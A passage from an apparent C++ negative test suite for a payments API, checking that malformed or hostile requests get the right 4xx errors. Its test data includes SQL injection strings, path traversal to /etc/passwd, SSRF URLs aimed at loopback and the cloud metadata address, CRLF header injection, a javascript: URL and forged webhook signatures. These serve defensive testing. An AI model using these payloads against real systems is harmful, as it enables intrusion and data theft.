      invalid("connector_empty", coll, col("connector", "\"\""), "parameter_invalid", "connector"));
  v.push_back(invalid("connector_65_chars", coll, col("connector", jstr(std::string(65, 'c'))),
                      "parameter_invalid", "connector"));
  v.push_back(invalid("connector_path_traversal", coll, col("connector", "\"../sandbox-a\""),
                      "parameter_invalid", "connector"));
  v.push_back(
      post("connector_without_currency", coll, col("connector", "\"sandbox-usd\""), 422, "no_route")
          .withParam("connector"));

  // Content types.
  auto bad_type = [&](std::string name, std::string type) {
    v.push_back(post(std::move(name), coll, validCollection(), 415, "content_type_unsupported")
                    .header("Content-Type", std::move(type)));
  };
  v.push_back(post("content_type_missing", coll, validCollection(), 415, "content_type_unsupported")
                  .noJson());
  bad_type("content_type_text_plain", "text/plain");
  bad_type("content_type_form", "application/x-www-form-urlencoded");
  bad_type("content_type_multipart", "multipart/form-data; boundary=x");
  bad_type("content_type_json_patch", "application/json-patch+json");
  bad_type("content_type_jsonx", "application/jsonx");
  bad_type("content_type_json_prefix_space", "x application/json");
  bad_type("content_type_xml", "application/xml");
  v.push_back(post("content_type_case_and_charset_ok", coll, validCollection(), 201, "")
                  .header("Content-Type", "Application/JSON; charset=utf-8"));

  // Authentication.
  auto unauthenticated = [&](std::string name, std::string header, std::string code) {
    Case c = post(std::move(name), coll, validCollection(), 401, std::move(code)).noAuth();
    if (!header.empty()) c.header("Authorization", std::move(header));
    v.push_back(std::move(c));
  };
  unauthenticated("auth_missing", "", "authentication_required");
  unauthenticated("auth_bearer_empty", "Bearer ", "api_key_invalid");
  unauthenticated("auth_basic", "Basic dXNlcjpwYXNz", "api_key_invalid");
  unauthenticated("auth_unknown_key", "Bearer pmx_test_" + std::string(32, 'A'), "api_key_invalid");
  unauthenticated("auth_10k_key", "Bearer pmx_test_" + std::string(10000, 'A'), "api_key_invalid");
  unauthenticated("auth_sql_key", "Bearer pmx_test_' OR '1'='1' --", "api_key_invalid");
  unauthenticated("auth_key_invalid_utf8", "Bearer " + std::string(24, '\xff'), "api_key_invalid");
  unauthenticated("auth_key_latin1_prefix", "Bearer pmx_test_\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9",
                  "api_key_invalid");
  unauthenticated("auth_key_with_spaces", "Bearer pmx test key with spaces 12345",
                  "api_key_invalid");

  // Idempotency-Key: 1-255 printable ASCII.
  auto bad_key = [&](std::string name, std::string key) {
    v.push_back(
        invalid(std::move(name), coll, validCollection(), "parameter_invalid", "Idempotency-Key")
            .header("Idempotency-Key", std::move(key)));
  };
  bad_key("idempotency_key_256_chars", std::string(256, 'i'));
  bad_key("idempotency_key_non_ascii", "\xd0\xba\xd0\xbb\xd1\x8e\xd1\x87");
  bad_key("idempotency_key_invalid_utf8", "key\xff\xfe");
  bad_key("idempotency_key_tab", "a\tb");
  bad_key("idempotency_key_del", "a\x7f");

  // Body size.
  v.push_back(post("body_one_byte_over_limit", coll, std::string(kBodyLimit + 1, ' '), 413,
                   "body_too_large"));
  v.push_back(post("body_4_mib", coll, std::string(4 << 20, 'x'), 413, "body_too_large")
                  .because("API.md: any body over the limit is 413 body_too_large, as JSON"));

  // Methods.
  v.push_back(request("collections_put", "PUT", coll, 405, "method_not_allowed")
                  .then(allowHeader("GET, POST")));
  v.push_back(request("collections_delete", "DELETE", coll, 405, "method_not_allowed"));
  v.push_back(request("collections_patch", "PATCH", coll, 405, "method_not_allowed"));
  v.push_back(request("collections_options", "OPTIONS", coll, 405, "method_not_allowed"));
  return v;
}

std::vector<Case> listAndIdCases() {
  std::vector<Case> v;
  // List parameters.
  for (const char* base : {"/v1/collections", "/v1/payouts", "/v1/events"}) {
    std::string b = base;
    std::string tag = b.substr(4);
    auto bad_limit = [&](std::string name, std::string value) {
      v.push_back(get(tag + "_" + name, b + "?limit=" + value, 400, "parameter_invalid")
                      .withParam("limit"));
    };
    bad_limit("limit_abc", "abc");
    bad_limit("limit_1e3", "1e3");
    bad_limit("limit_zero", "0");
    bad_limit("limit_negative", "-1");
    bad_limit("limit_101", "101");
    bad_limit("limit_empty", "");
    bad_limit("limit_float", "1.5");
    bad_limit("limit_huge", "99999999999999999999");
    bad_limit("limit_leading_space", "%2010");
    bad_limit("limit_hex", "0x10");
    v.push_back(get(tag + "_starting_after_quotes",
                    b + "?starting_after=" + urlEncode("x' OR '1'='1"), 400, "resource_missing")
                    .withParam("starting_after"));
    v.push_back(get(tag + "_starting_after_10k", b + "?starting_after=" + std::string(10000, 'x'),
                    400, "resource_missing")
                    .withParam("starting_after"));
    v.push_back(
        get(tag + "_starting_after_nul", b + "?starting_after=%00", 400, "parameter_invalid")
            .withParam("starting_after")
            .because("once query values are percent-decoded, U+0000 cannot name an object and "
                     "cannot reach PostgreSQL"));
    v.push_back(get(tag + "_starting_after_invalid_utf8", b + "?starting_after=%FF%FE", 400,
                    "parameter_invalid")
                    .withParam("starting_after")
                    .because("bytes that are not UTF-8 can never name an object; never a 500"));
    v.push_back(get(tag + "_list_no_auth", b, 401, "authentication_required").noAuth());
  }
  v.push_back(get("collections_starting_after_other_tenant",
                  "/v1/collections?starting_after={other_collection_id}", 400, "resource_missing")
                  .withParam("starting_after"));
  v.push_back(get("collections_starting_after_payout_id",
                  "/v1/collections?starting_after={payout_id}", 400, "resource_missing")
                  .withParam("starting_after"));
  v.push_back(
      get("collections_status_unknown",
          "/v1/collections?status=" + urlEncode("succeeded' OR '1'='1"), 400, "parameter_invalid")
          .withParam("status")
          .because("a filter on a closed set should name a value outside it, as Stripe does"));
  v.push_back(get("collections_reference_script_filter",
                  "/v1/collections?reference=" + urlEncode("<script>x</script>"), 200, ""));
  v.push_back(
      get("collections_reference_invalid_utf8", "/v1/collections?reference=%FF", 400,
          "parameter_invalid")
          .withParam("reference")
          .because("bytes that are not UTF-8 cannot be compared with stored text; never a 500"));
  v.push_back(
      get("collections_reference_nul", "/v1/collections?reference=a%00b", 400, "parameter_invalid")
          .withParam("reference")
          .because("U+0000 cannot be stored, so it cannot match; never a 500"));
  v.push_back(
      get("events_type_unknown", "/v1/events?type=" + urlEncode("collection.succeeded' --"), 400,
          "parameter_invalid")
          .withParam("type")
          .because("a filter on a closed set should name a value outside it, as Stripe does"));
  v.push_back(get("events_type_invalid_utf8", "/v1/events?type=%C3%28", 400, "parameter_invalid")
                  .withParam("type"));
  for (const auto& [name, value] :
       std::vector<std::pair<std::string, std::string>>{{"abc", "abc"},
                                                        {"negative", "-1"},
                                                        {"exponent", "1e3"},
                                                        {"19_digits", "1000000000000000000"},
                                                        {"float", "1.5"},
                                                        {"empty_plus", "%2B1"}}) {
    v.push_back(get("events_after_sequence_" + name, "/v1/events?after_sequence=" + value, 400,
                    "parameter_invalid")
                    .withParam("after_sequence"));
  }
  v.push_back(get("events_after_sequence_18_digits", "/v1/events?after_sequence=999999999999999999",
                  200, ""));

  // Ids in paths.
  const std::pair<std::string, std::string> bad_ids[] = {
      {"unknown", "col_doesnotexist"},
      {"10k_chars", std::string(10000, 'x')},
      {"percent_nul", "col_%00"},
      {"percent_encoded_traversal", "..%2F..%2Fetc%2Fpasswd"},
      {"sql", urlEncode("col_' OR '1'='1")},
      {"percent_ff", "col_%FF"},
      {"raw_utf8", "col_\xc3\xbc\xe2\x82\xac"},
      {"raw_invalid_utf8", "col_\xff\xfe"},
      {"percent_space", "col%20x"},
      {"semicolon", "col_x;drop"},
  };
  for (const auto& [name, id] : bad_ids) {
    v.push_back(get("collection_id_" + name, "/v1/collections/" + id, 404, "resource_missing"));
    v.push_back(get("payout_id_" + name, "/v1/payouts/" + id, 404, "resource_missing"));
    v.push_back(get("event_id_" + name, "/v1/events/" + id, 404, "resource_missing"));
  }
  v.push_back(
      get("collection_id_is_a_payout", "/v1/collections/{payout_id}", 404, "resource_missing"));
  v.push_back(
      get("payout_id_is_a_collection", "/v1/payouts/{collection_id}", 404, "resource_missing"));
  v.push_back(get("collection_of_other_tenant", "/v1/collections/{other_collection_id}", 404,
                  "resource_missing"));
  v.push_back(get("event_of_other_tenant", "/v1/events/{other_event_id}", 404, "resource_missing"));
  v.push_back(
      get("event_id_is_a_collection", "/v1/events/{collection_id}", 404, "resource_missing"));
  v.push_back(get("collection_get_no_auth", "/v1/collections/{collection_id}", 401,
                  "authentication_required")
                  .noAuth());
  v.push_back(get("event_get_bad_key", "/v1/events/{event_id}", 401, "api_key_invalid")
                  .noAuth()
                  .header("Authorization", "Bearer {collection_id}"));
  v.push_back(get("collection_subresource", "/v1/collections/{collection_id}/refunds", 404,
                  "resource_missing"));
  v.push_back(get("events_subresource", "/v1/events/{event_id}/x", 404, "resource_missing"));
  v.push_back(request("collection_delete", "DELETE", "/v1/collections/{collection_id}", 405,
                      "method_not_allowed"));
  v.push_back(request("collection_post_to_id", "POST", "/v1/collections/{collection_id}", 405,
                      "method_not_allowed"));
  v.push_back(request("payouts_patch", "PATCH", "/v1/payouts", 405, "method_not_allowed"));
  v.push_back(request("events_post", "POST", "/v1/events", 405, "method_not_allowed"));
  v.push_back(
      request("event_delete", "DELETE", "/v1/events/{event_id}", 405, "method_not_allowed"));

  // Unknown routes.
  for (const auto& [name, path] : std::vector<std::pair<std::string, std::string>>{
           {"root", "/"},
           {"v1", "/v1"},
           {"v2", "/v2/collections"},
           {"unknown_v1", "/v1/charges"},
           {"long_path", "/v1/" + std::string(20000, 'p')},
           // why: the 404 message quotes the first 200 bytes of the path; 5 + 195 bytes cut an é.
           {"long_utf8_path", "/v1/x" + repeat("\xc3\xa9", 150)},
           {"encoded_slash", "/v1%2Fcollections"}}) {
    v.push_back(get("route_" + name, path, 404, "resource_missing"));
  }
  return v;
}

std::vector<Case> payoutCases() {
  const std::string payouts = "/v1/payouts";
  std::vector<Case> v;
  auto bad = [&](std::string name, std::string body, std::string code, std::string param) {
    v.push_back(
        invalid("payout_" + name, payouts, std::move(body), std::move(code), std::move(param)));
  };
  v.push_back(
      post("payout_malformed", payouts, R"({"amount":2500,"beneficiary":{)", 400, "json_invalid"));
  v.push_back(post("payout_duplicate_iban_key", payouts,
                   pay("beneficiary",
                       R"({"type":"bank_account","iban":"GB33BUKB20201555555555","iban":"X"})"),
                   400, "json_invalid")
                  .because("duplicate keys are ambiguous (RFC 7493)"));
  bad("amount_2_pow_63", pay("amount", "9223372036854775808"), "parameter_invalid", "amount");
  bad("amount_2_pow_64", pay("amount", "18446744073709551616"), "parameter_invalid", "amount");
  bad("amount_negative", pay("amount", "-2500"), "parameter_invalid", "amount");
  bad("amount_float", pay("amount", "25.00"), "parameter_invalid", "amount");
  bad("currency_lower", pay("currency", "\"gbp\""), "parameter_invalid", "currency");
  bad("currency_withdrawn_zwl", pay("currency", "\"ZWL\""), "parameter_invalid", "currency");
  bad("beneficiary_missing", pay("beneficiary", kRemove), "parameter_missing", "beneficiary");
  bad("beneficiary_type_unknown", pay("beneficiary", R"({"type":"crypto_wallet"})"),
      "parameter_invalid", "beneficiary.type");
  bad("iban_lower_case",
      pay("beneficiary", R"({"type":"bank_account","iban":"gb33bukb20201555555555"})"),
      "parameter_invalid", "beneficiary.iban");
  bad("iban_with_spaces",
      pay("beneficiary", R"({"type":"bank_account","iban":"GB33 BUKB 2020 1555 5555 55"})"),
      "parameter_invalid", "beneficiary.iban");
  v.push_back(
      invalid("payout_iban_escaped_nul_suffix", payouts,
              pay("beneficiary",
                  R"({"type":"bank_account","iban":"GB33BUKB20201555555555\u0000<script>"})"),
              "parameter_invalid", "beneficiary.iban")
          .because("RapidJSON's pattern check stops at U+0000, so the suffix passes the IBAN "
                   "pattern; and jsonb cannot store it"));
  v.push_back(invalid("payout_email_escaped_nul_suffix", payouts,
                      pay("beneficiary", R"({"type":"paypal","email":"a@b.co\u0000 junk"})"),
                      "parameter_invalid", "beneficiary.email")
                  .because("RapidJSON's pattern check stops at U+0000"));
  bad("sort_code_with_dashes",
      pay("beneficiary",
          R"({"type":"bank_account","account_number":"31926819","sort_code":"60-16-13"})"),
      "parameter_invalid", "beneficiary.sort_code");
  bad("routing_number_8_digits",
      pay("beneficiary",
          R"({"type":"bank_account","account_number":"1","routing_number":"11000000"})"),
      "parameter_invalid", "beneficiary.routing_number");
  bad("account_number_arabic_digits",
      pay("beneficiary",
          "{\"type\":\"bank_account\",\"account_number\":\"\xd9\xa1\xd9\xa2\",\"sort_code\":"
          "\"601613\"}"),
      "parameter_invalid", "beneficiary.account_number");
  v.push_back(invalid("payout_paypal_without_email", payouts,
                      pay("beneficiary", R"({"type":"paypal"})"), "parameter_missing",
                      "beneficiary.email")
                  .because("API.md: the first failing field in param; the field is the email"));
  v.push_back(invalid("payout_provider_account_without_id", payouts,
                      pay("beneficiary", R"({"type":"provider_account"})"), "parameter_missing",
                      "beneficiary.account_id")
                  .because("API.md: the first failing field in param; the field is account_id"));
  bad("beneficiary_name_256_chars",
      pay("beneficiary", "{\"type\":\"provider_account\",\"account_id\":\"a\",\"name\":\"" +
                             std::string(256, 'n') + "\"}"),
      "parameter_invalid", "beneficiary.name");
  bad("with_payment_method", pay("payment_method", R"({"type":"card","token":"t"})"),
      "parameter_unknown", "payment_method");
  bad("with_customer", pay("customer", R"({"id":"c"})"), "parameter_unknown", "customer");
  bad("beneficiary_unknown_field",
      pay("beneficiary", R"({"type":"paypal","email":"a@b.co","pin":"1234"})"), "parameter_unknown",
      "beneficiary.pin");
  v.push_back(post("payout_text_plain", payouts, object(kPayout), 415, "content_type_unsupported")
                  .header("Content-Type", "text/plain"));
  v.push_back(
      post("payout_no_auth", payouts, object(kPayout), 401, "authentication_required").noAuth());
  v.push_back(post("payout_body_over_limit", payouts, std::string(kBodyLimit + 10, '{'), 413,
                   "body_too_large"));
  return v;
}

std::vector<Case> webhookCases() {
  const std::string hook = "/webhooks/sandbox-a";
  const std::string event =
      R"({"id":"evt_bad_input_1","type":"payment.updated","created":1700000000,)"
      R"("data":{"id":"pay_unknown_bad_input","status":"succeeded","amount":1000,"currency":"EUR"}})";
  std::vector<Case> v;
  auto rejected = [&](std::string name, std::string header) {
    Case c = post("webhook_" + name, hook, event, 401, "signature_invalid").noAuth();
    if (!header.empty()) c.header("Sandbox-Signature", std::move(header));
    v.push_back(std::move(c));
  };
  rejected("unsigned", "");
  rejected("forged_signature",
           "t=" + std::to_string(std::time(nullptr)) + ",v1=" + std::string(64, 'a'));
  rejected("stale_timestamp", "t=1,v1=" + std::string(64, '0'));
  rejected("future_timestamp", "t=99999999999,v1=00");
  rejected("timestamp_not_a_number", "t=abc,v1=00");
  rejected("timestamp_int64_min", "t=-9223372036854775808,v1=00");
  rejected("timestamp_overflow", "t=99999999999999999999999,v1=00");
  rejected("no_v1", "t=" + std::to_string(std::time(nullptr)));
  rejected("stripe_style_header", "v0=abc");
  rejected("10k_header", std::string(10000, ','));
  rejected("1000_signatures", "t=" + std::to_string(std::time(nullptr)) + repeat(",v1=00", 1000));
  v.push_back(post("webhook_signature_for_other_body", hook, event, 401, "signature_invalid")
                  .noAuth()
                  .signedAs(Sign::kOtherBody));
  v.push_back(post("webhook_validly_signed_but_stale", hook, event, 401, "signature_invalid")
                  .noAuth()
                  .signedAs(Sign::kStale));
  v.push_back(post("webhook_api_key_is_not_a_signature", hook, event, 401, "signature_invalid"));
  // Correctly signed, but the body is unreadable: 400 and nothing stored.
  auto unreadable = [&](std::string name, std::string body) {
    v.push_back(post("webhook_signed_" + name, hook, std::move(body), 400, "json_invalid")
                    .noAuth()
                    .signedAs(Sign::kValid));
  };
  unreadable("empty_body", "");
  unreadable("not_json", "hello");
  unreadable("truncated", event.substr(0, 40));
  unreadable("array", "[]");
  unreadable("without_id", R"({"type":"payment.updated","data":{"id":"p"}})");
  unreadable("data_without_id", R"({"id":"evt_x","data":{"status":"succeeded"}})");
  unreadable("invalid_utf8", "{\"id\":\"\xff\",\"data\":{}}");
  v.push_back(post("webhook_signed_ok", hook, event, 200, "").noAuth().signedAs(Sign::kValid));
  v.push_back(
      post("webhook_signed_replayed_ok", hook, event, 200, "").noAuth().signedAs(Sign::kValid));
  v.push_back(
      post("webhook_unknown_connector", "/webhooks/nope", event, 404, "resource_missing").noAuth());
  v.push_back(post("webhook_connector_percent_nul", "/webhooks/sandbox-a%00", event, 404,
                   "resource_missing")
                  .noAuth());
  v.push_back(post("webhook_connector_traversal", "/webhooks/..%2Fsandbox-a", event, 404,
                   "resource_missing")
                  .noAuth());
  v.push_back(post("webhook_connector_10k", "/webhooks/" + std::string(10000, 'c'), event, 404,
                   "resource_missing")
                  .noAuth());
  v.push_back(
      post("webhook_connector_invalid_utf8", "/webhooks/\xff\xfe", event, 404, "resource_missing")
          .noAuth());
  v.push_back(
      post("webhook_extra_segment", hook + "/extra", event, 404, "resource_missing").noAuth());
  v.push_back(request("webhook_get", "GET", hook, 405, "method_not_allowed")
                  .noAuth()
                  .then(allowHeader("POST")));
  v.push_back(
      post("webhook_body_over_limit", hook, std::string(kBodyLimit + 1, 'w'), 413, "body_too_large")
          .noAuth());
  return v;
}

std::vector<Case> operationsCases() {
  std::vector<Case> v;
  v.push_back(get("healthz_with_query", "/healthz?x=" + urlEncode("<script>"), 200, "").noAuth());
  v.push_back(get("healthz_with_bad_key", "/healthz", 200, "")
                  .noAuth()
                  .header("Authorization", "Bearer x"));
  v.push_back(get("readyz_with_garbage_auth", "/readyz", 200, "")
                  .noAuth()
                  .header("Authorization", "\xff\xfe"));
  v.push_back(get("healthz_long_request_id", "/healthz", 200, "")
                  .noAuth()
                  .header("X-Request-Id", std::string(10000, 'r'))
                  .then(requestIdGenerated()));
  v.push_back(get("healthz_request_id_with_space", "/healthz", 200, "")
                  .noAuth()
                  .header("X-Request-Id", "a b")
                  .then(requestIdGenerated()));
  v.push_back(get("healthz_request_id_invalid_utf8", "/healthz", 200, "")
                  .noAuth()
                  .header("X-Request-Id", "\xff\xfe")
                  .then(requestIdGenerated()));
  v.push_back(get("healthz_64k_header", "/healthz", 200, "")
                  .noAuth()
                  .header("X-Junk", std::string(65536, 'j')));
  Case many = get("healthz_1000_headers", "/healthz", 200, "").noAuth();
  for (int i = 0; i < 1000; ++i) many.header("X-Junk-" + std::to_string(i), std::string(50, 'h'));
  v.push_back(std::move(many));
  v.push_back(post("collection_64k_header", "/v1/collections", validCollection(), 201, "")
                  .header("X-Junk", std::string(65536, 'j')));
  v.push_back(
      request("healthz_head", "HEAD", "/healthz", 200, "")
          .noAuth()
          .because("RFC 9110: HEAD is allowed wherever GET is; load balancers probe with it"));
  v.push_back(request("method_unknown", "FOO", "/healthz", 405, "method_not_allowed").noAuth());
  v.push_back(request("method_lower_case", "get", "/v1/collections", 405, "method_not_allowed")
                  .because("methods are case-sensitive (RFC 9110); never a 5xx"));
  v.push_back(get("healthz_subpath", "/healthz/x", 404, "resource_missing").noAuth());
  v.push_back(request("healthz_post", "POST", "/healthz", 405, "method_not_allowed")
                  .noAuth()
                  .because("an existing path with the wrong method is 405 on every other route"));
  v.push_back(request("metrics_delete", "DELETE", "/metrics", 405, "method_not_allowed")
                  .noAuth()
                  .because("an existing path with the wrong method is 405 on every other route"));
  v.push_back(request("readyz_put", "PUT", "/readyz", 405, "method_not_allowed")
                  .noAuth()
                  .because("an existing path with the wrong method is 405 on every other route"));

  // Idempotency keys are data too.
  const std::string sql_key = "'; DROP TABLE idempotency_keys; --";
  v.push_back(post("idempotency_sql_key_first", "/v1/collections", validCollection(), 201, "")
                  .header("Idempotency-Key", sql_key));
  v.push_back(post("idempotency_sql_key_replayed", "/v1/collections", validCollection(), 201, "")
                  .header("Idempotency-Key", sql_key)
                  .then([](const Case&, const http::HttpResult& r) {
                    EXPECT_EQ(r.response.header("idempotent-replayed"), "true");
                  }));
  v.push_back(post("idempotency_sql_key_other_body", "/v1/collections", col("amount", "1001"), 422,
                   "idempotency_key_reused")
                  .header("Idempotency-Key", sql_key));

  // Bytes libcurl would percent-encode: raw non-ASCII in the path reaches paymux as it is.
  v.push_back(raw("raw_path_invalid_utf8", "GET /v1/\xff\xfe HTTP/1.1", 404, "resource_missing")
                  .because("the 404 message quotes the path: it must still be valid UTF-8 JSON"));
  v.push_back(
      raw("raw_path_utf8_cut_at_200_bytes", "GET /v1/x" + repeat("\xc3\xa9", 150) + " HTTP/1.1",
          404, "resource_missing")
          .because("the 404 message quotes the first 200 bytes of the path: the cut must not "
                   "split a UTF-8 sequence"));
  v.push_back(raw("raw_collection_id_invalid_utf8",
                  "GET /v1/collections/col_\xff\xfe HTTP/1.1\r\nAuthorization: Bearer {key}", 404,
                  "resource_missing")
                  .because("an id that is not UTF-8 names nothing; never a 500 from PostgreSQL"));
  v.push_back(raw("raw_payout_id_latin1",
                  "GET /v1/payouts/pay_\xe9t\xe9 HTTP/1.1\r\nAuthorization: Bearer {key}", 404,
                  "resource_missing"));
  v.push_back(raw("raw_event_id_invalid_utf8",
                  "GET /v1/events/evt_\xc3 HTTP/1.1\r\nAuthorization: Bearer {key}", 404,
                  "resource_missing"));
  v.push_back(
      raw("raw_list_reference_invalid_utf8",
          "GET /v1/collections?reference=\xff HTTP/1.1\r\nAuthorization: Bearer {key}", 400,
          "parameter_invalid")
          .withParam("reference")
          .because("bytes that are not UTF-8 cannot be compared with stored text; never a 500"));
  v.push_back(raw("raw_list_starting_after_invalid_utf8",
                  "GET /v1/events?starting_after=\xff HTTP/1.1\r\nAuthorization: Bearer {key}", 400,
                  "parameter_invalid")
                  .withParam("starting_after"));
  v.push_back(raw("raw_webhook_connector_invalid_utf8",
                  "POST /webhooks/\xff HTTP/1.1\r\nContent-Length: 0", 404, "resource_missing"));
  return v;
}

std::vector<Case> subscriptionCases() {
  const std::string subs = "/v1/subscriptions";
  const std::string one = "/v1/subscriptions/{subscription_id}";
  std::vector<Case> v;
  auto sub = [](const std::string& url_json) { return "{\"url\":" + url_json + "}"; };
  auto bad_url = [&](std::string name, std::string url_json) {
    v.push_back(
        invalid("subscription_url_" + name, subs, sub(url_json), "parameter_invalid", "url"));
  };
  v.push_back(post("subscription_malformed", subs, R"({"url":)", 400, "json_invalid"));
  v.push_back(invalid("subscription_url_missing", subs, "{}", "parameter_missing", "url"));
  bad_url("number", "1");
  bad_url("empty", R"("")");
  bad_url("ftp", R"("ftp://example.com/hook")");
  bad_url("javascript", R"x("javascript:alert(1)")x");
  bad_url("file", R"("file:///etc/passwd")");
  bad_url("relative", R"("/hook")");
  bad_url("2049_chars", "\"https://example.com/" + std::string(2029, 'a') + "\"");
  bad_url("space_in_host", R"("https://exa mple.com/")");
  bad_url("crlf_injection", R"("https://example.com/\r\nX-Injected: 1")");
  bad_url("credentials", R"("https://user:secret@example.com/hook")");
  bad_url("loopback", R"("https://127.0.0.1/hook")");
  bad_url("cloud_metadata", R"("http://169.254.169.254/latest/meta-data/")");
  bad_url("ipv6_loopback", R"("https://[::1]:8443/hook")");
  bad_url("ipv4_mapped_ipv6", R"("https://[::ffff:127.0.0.1]/hook")");
  bad_url("hex_ipv4", R"("https://0x7f000001/hook")");
  bad_url("decimal_ipv4", R"("https://2130706433/hook")");
  bad_url("short_ipv4", R"("https://127.1/hook")");
  bad_url("private_10", R"("https://10.1.2.3/hook")");
  bad_url("localhost", R"("https://localhost:8443/hook")");
  v.push_back(invalid("subscription_url_localhost_trailing_dot", subs,
                      sub(R"("https://localhost./hook")"), "parameter_invalid", "url")
                  .because("\"localhost.\" is the same loopback name as \"localhost\""));
  v.push_back(
      invalid("subscription_url_escaped_nul", subs,
              sub(R"("https://example.com/\u0000@127.0.0.1/")"), "parameter_invalid", "url")
          .because("the pattern and libcurl stop at U+0000, and PostgreSQL cannot store it"));
  v.push_back(invalid("subscription_event_types_unknown", subs,
                      R"({"url":"https://example.com/h","event_types":["collection.exploded"]})",
                      "parameter_invalid", "event_types[0]"));
  v.push_back(invalid("subscription_event_types_string", subs,
                      R"({"url":"https://example.com/h","event_types":"collection.succeeded"})",
                      "parameter_invalid", "event_types"));
  v.push_back(
      invalid("subscription_event_types_duplicates", subs,
              R"({"url":"https://example.com/h","event_types":["payout.paid","payout.paid"]})",
              "parameter_invalid", "event_types[1]"));
  v.push_back(invalid("subscription_event_types_nested", subs,
                      R"({"url":"https://example.com/h","event_types":[["payout.paid"]]})",
                      "parameter_invalid", "event_types[0]"));
  v.push_back(
      invalid("subscription_description_501_chars", subs,
              R"({"url":"https://example.com/h","description":")" + std::string(501, 'd') + "\"}",
              "parameter_invalid", "description"));
  v.push_back(invalid("subscription_sets_own_secret", subs,
                      R"({"url":"https://example.com/h","secret":"whsec_mine"})",
                      "parameter_unknown", "secret"));
  v.push_back(invalid("subscription_enabled_on_create", subs,
                      R"({"url":"https://example.com/h","enabled":true})", "parameter_unknown",
                      "enabled"));
  v.push_back(
      post("subscription_duplicate_url_key", subs,
           R"({"url":"https://example.com/h","url":"https://127.0.0.1/"})", 400, "json_invalid")
          .because("duplicate keys are ambiguous (RFC 7493); here they hide a loopback URL"));
  v.push_back(post("subscription_text_plain", subs, sub(R"("https://example.com/h")"), 415,
                   "content_type_unsupported")
                  .header("Content-Type", "text/plain"));
  v.push_back(post("subscription_no_auth", subs, sub(R"("https://example.com/h")"), 401,
                   "authentication_required")
                  .noAuth());
  v.push_back(get("subscriptions_limit_abc", subs + "?limit=abc", 400, "parameter_invalid")
                  .withParam("limit"));
  v.push_back(get("subscriptions_starting_after_unknown",
                  subs + "?starting_after=" + urlEncode("sub_' OR 1=1"), 400, "resource_missing")
                  .withParam("starting_after"));
  v.push_back(get("subscriptions_starting_after_other_tenant",
                  subs + "?starting_after={other_subscription_id}", 400, "resource_missing")
                  .withParam("starting_after"));
  v.push_back(request("subscriptions_put", "PUT", subs, 405, "method_not_allowed"));

  // One subscription: ids, PATCH, DELETE.
  for (const auto& [name, id] :
       std::vector<std::pair<std::string, std::string>>{{"unknown", "sub_doesnotexist"},
                                                        {"10k_chars", std::string(10000, 's')},
                                                        {"percent_nul", "sub_%00"},
                                                        {"sql", urlEncode("sub_' OR '1'='1")},
                                                        {"other_tenant", "{other_subscription_id}"},
                                                        {"a_collection", "{collection_id}"}}) {
    v.push_back(get("subscription_get_" + name, subs + "/" + id, 404, "resource_missing"));
    v.push_back(
        request("subscription_delete_" + name, "DELETE", subs + "/" + id, 404, "resource_missing"));
    v.push_back(post("subscription_patch_" + name, subs + "/" + id, R"({"enabled":false})", 404,
                     "resource_missing"));
    v.back().method = "PATCH";
  }
  v.push_back(raw("raw_subscription_id_invalid_utf8",
                  "GET /v1/subscriptions/sub_\xff HTTP/1.1\r\nAuthorization: Bearer {key}", 404,
                  "resource_missing")
                  .because("an id that is not UTF-8 names nothing; never a 500 from PostgreSQL"));
  auto patch = [&](std::string name, std::string body, long status, std::string code) {
    Case c = post("subscription_patch_" + std::move(name), one, std::move(body), status,
                  std::move(code));
    c.method = "PATCH";
    return c;
  };
  v.push_back(patch("empty_object", "{}", 400, "parameter_invalid"));
  v.push_back(patch("malformed", R"({"enabled":)", 400, "json_invalid"));
  v.push_back(patch("enabled_string", R"({"enabled":"yes"})", 400, "parameter_invalid")
                  .withParam("enabled"));
  v.push_back(
      patch("enabled_null", R"({"enabled":null})", 400, "parameter_invalid").withParam("enabled"));
  v.push_back(patch("url_loopback", R"({"url":"https://127.0.0.1/"})", 400, "parameter_invalid")
                  .withParam("url"));
  v.push_back(patch("sets_id", R"({"id":"sub_mine"})", 400, "parameter_unknown").withParam("id"));
  v.push_back(patch("sets_secret", R"({"secret":"whsec_x"})", 400, "parameter_unknown")
                  .withParam("secret"));
  v.push_back(patch("text_plain", R"({"enabled":false})", 415, "content_type_unsupported")
                  .header("Content-Type", "text/plain"));
  v.push_back(
      patch("duplicate_enabled_key", R"({"enabled":true,"enabled":false})", 400, "json_invalid")
          .because("duplicate keys are ambiguous (RFC 7493)"));
  v.push_back(request("subscription_post_to_id", "POST", one, 405, "method_not_allowed"));

  // Actions.
  const std::string rotate = one + "/rotate_secret";
  v.push_back(
      invalid("rotate_secret_with_parameter", rotate, R"({"a":1})", "parameter_unknown", "a"));
  v.push_back(post("rotate_secret_array_body", rotate, "[]", 400, "json_invalid"));
  v.push_back(post("rotate_secret_not_json", rotate, "rotate please", 400, "json_invalid"));
  v.push_back(
      post("rotate_secret_text_plain", rotate, R"({"a":1})", 415, "content_type_unsupported")
          .header("Content-Type", "text/plain"));
  v.push_back(post("rotate_secret_invalid_utf8_key", rotate, "{\"\xff\":1}", 400, "json_invalid")
                  .because("the parameter_unknown message would quote bytes that are not UTF-8"));
  v.push_back(
      post("rotate_secret_key_cut_at_64_bytes", rotate,
           "{\"" + std::string(63, 'k') + "\xc3\xa9\":1}", 400, "parameter_unknown")
          .because("the key is quoted cut at 64 bytes: the cut must not split a UTF-8 sequence"));
  v.push_back(post("rotate_secret_unknown_id", "/v1/subscriptions/sub_doesnotexist/rotate_secret",
                   "", 404, "resource_missing"));
  v.push_back(post("rotate_secret_other_tenant",
                   "/v1/subscriptions/{other_subscription_id}/rotate_secret", "", 404,
                   "resource_missing"));
  v.push_back(request("rotate_secret_get", "GET", rotate, 405, "method_not_allowed"));
  const std::string recover = one + "/recover";
  auto bad_since = [&](std::string name, std::string since) {
    v.push_back(invalid("recover_since_" + name, recover, "{\"since\":" + since + "}",
                        "parameter_invalid", "since"));
  };
  bad_since("words", R"("yesterday")");
  bad_since("date_only", R"("2026-01-01")");
  bad_since("february_31", R"("2026-02-31T00:00:00Z")");
  bad_since("hour_24", R"("2026-01-01T24:00:00Z")");
  bad_since("number", "1700000000");
  bad_since("65_chars", "\"2026-01-01T00:00:00." + std::string(44, '0') + "Z\"");
  v.push_back(
      invalid("recover_since_year_zero", recover, R"({"since":"0000-01-01T00:00:00Z"})",
              "parameter_invalid", "since")
          .because("PostgreSQL has no year 0: it must be refused before it reaches the database"));
  v.push_back(invalid("recover_since_escaped_nul_suffix", recover,
